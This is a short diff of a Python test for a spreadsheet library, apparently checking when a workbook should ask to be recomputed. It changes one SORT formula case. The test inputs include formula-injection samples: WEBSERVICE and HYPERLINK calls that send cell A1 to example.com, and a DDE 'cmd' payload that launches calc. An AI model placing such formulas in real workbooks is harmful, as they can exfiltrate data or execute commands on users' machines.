@@ -252,7 +252,7 @@ def test_the_workbook_asks_to_be_computed_when_results_may_be_old(documents, sal
         {"op": "set_cells", "cells": {"A9": '=WEBSERVICE("http://example.com/"&A1)'}},
         {"op": "set_cells", "cells": {"A9": "=cmd|'/C calc'!A0"}},
         {"op": "set_cells", "cells": {"A9": '=HYPERLINK("http://example.com/"&A1,"x")'}},
-        {"op": "set_cells", "cells": {"A9": "=SORT(A1:A3)"}},
+        {"op": "set_cells", "cells": {"A2": "=SORT(E1:E3)"}},  # may grow, in a table
         {"op": "set_cells", "cells": {"A9": "='[other.xlsx]S'!A1"}},
         {"op": "append_rows", "sheet": "Other", "rows": [[1]]},  # below totals
         {"op": "append_rows", "rows": [[1, 2, 3, 4, 5, 6]]},  # wider than the table
